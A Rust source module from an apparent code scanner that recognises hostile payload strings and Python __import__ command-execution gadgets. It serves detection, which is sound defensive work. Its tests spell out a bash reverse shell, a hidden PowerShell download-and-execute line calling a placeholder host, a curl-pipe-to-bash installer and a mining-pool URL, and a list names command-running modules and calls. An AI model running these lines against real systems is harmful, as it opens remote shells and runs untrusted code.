//! Commands that nobody keeps in a string for another reason than to run them on someone:
//! `rules/payloads.list`.

use std::sync::OnceLock;

use crate::rule::Rule;

/// A kind of payload: alternatives of which the text has one of each group.
struct Kind {
    rule: Rule,
    what: &'static str,
    groups: Vec<Vec<&'static str>>,
}

struct Kinds {
    all: Vec<Kind>,
    /// The three characters that first groups begin with, a bit for each that they may be.
    beginnings: [u64; 128],
}

fn kinds() -> &'static Kinds {
    static KINDS: OnceLock<Kinds> = OnceLock::new();
    KINDS.get_or_init(|| {
        let all: Vec<Kind> = read().flatten().collect();
        let mut beginnings = [0; 128];
        for mark in all.iter().flat_map(|kind| &kind.groups[0]) {
            if let [first, second, third, ..] = *mark.as_bytes() {
                let bit = beginning(first, second, third);
                beginnings[bit / 64] |= 1 << (bit % 64);
            }
        }
        Kinds { all, beginnings }
    })
}

/// The lines of the table; `None` for one that is not understood.
fn read() -> impl Iterator<Item = Option<Kind>> {
    let text = include_str!("../rules/payloads.list");
    let mut section = None;
    text.lines()
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .filter_map(move |line| {
            if let Some((id, what)) = line
                .strip_prefix('[')
                .and_then(|line| line.split_once("] "))
            {
                section = Rule::from_id(id).map(|rule| (rule, what));
                return None;
            }
            Some(section.and_then(|(rule, what)| {
                let inner = line.strip_prefix('"')?.strip_suffix('"')?;
                let groups = inner.split("\" \"");
                let groups = groups.map(|group| group.split("\",\"").collect()).collect();
                Some(Kind { rule, what, groups })
            }))
        })
}

/// Three characters as a number below 8,192; few others share one with a mark.
const fn beginning(first: u8, second: u8, third: u8) -> usize {
    (first as usize ^ (second as usize) << 3 ^ (third as usize) << 6) & 8191
}

/// Whether a text has one of a first group, in letters of any case. Most have none.
fn is_marked(text: &str, kinds: &Kinds) -> bool {
    let bytes = text.as_bytes();
    let marks = || kinds.all.iter().flat_map(|kind| &kind.groups[0]);
    let (mut first, mut second) = (0, 0);
    bytes.iter().enumerate().any(|(at, byte)| {
        let third = byte.to_ascii_lowercase();
        let bit = beginning(first, second, third);
        (first, second) = (second, third);
        kinds.beginnings[bit / 64] >> (bit % 64) & 1 == 1
            && at >= 2
            && marks().any(|mark| {
                let here = bytes.get(at - 2..at - 2 + mark.len());
                here.is_some_and(|here| here.eq_ignore_ascii_case(mark.as_bytes()))
            })
    })
}

/// What a text in a program is, if it is a known kind of payload.
pub(crate) fn recognise(text: &str) -> Option<(Rule, &'static str)> {
    if text.starts_with(['@', '{', '(', '[']) && imports(text) {
        let what = "an expression that imports what runs commands";
        return Some((Rule::SandboxGadget, what));
    }
    let kinds = kinds();
    if !is_marked(text, kinds) {
        return None;
    }
    let lower = text.to_ascii_lowercase();
    let has = |group: &Vec<&str>| group.iter().any(|part| lower.contains(part));
    let kind = kinds.all.iter().find(|kind| kind.groups.iter().all(has))?;
    Some((kind.rule, kind.what))
}

/// An expression that imports a module and has it run something, in one go.
pub(crate) fn imports(text: &str) -> bool {
    let Some((_, rest)) = text.split_once("__import__(") else {
        return false;
    };
    let rest = rest.trim_start_matches(['\'', '"', '\\']);
    let runs = [
        "system(",
        "popen(",
        "exec",
        "spawn",
        "run(",
        "call(",
        "check_output(",
    ];
    ["os", "subprocess", "posix", "pty", "builtins"]
        .iter()
        .any(|module| rest.starts_with(module))
        && runs.iter().any(|call| rest.contains(call))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_line_is_read() {
        for kind in read() {
            let kind = kind.unwrap();
            let first = kind.groups.first().unwrap();
            assert!(first.iter().all(|mark| mark.len() > 2), "{}", kind.what);
            for part in kind.groups.iter().flatten() {
                assert!(!part.is_empty() && **part == part.to_ascii_lowercase());
                assert!(!part.contains('"'), "{part}");
            }
        }
        assert!(recognise("stratum+tcp://pool.example:3333").is_some());
    }

    #[test]
    fn payloads_are_told_from_talk() {
        assert!(recognise("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").is_some());
        assert!(recognise("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"").is_some());
        assert!(recognise("curl https://example.org/install.sh | bash").is_some());
        assert!(recognise("run powershell to see more").is_none());
        assert!(recognise("curl the yarn").is_none());
    }
}
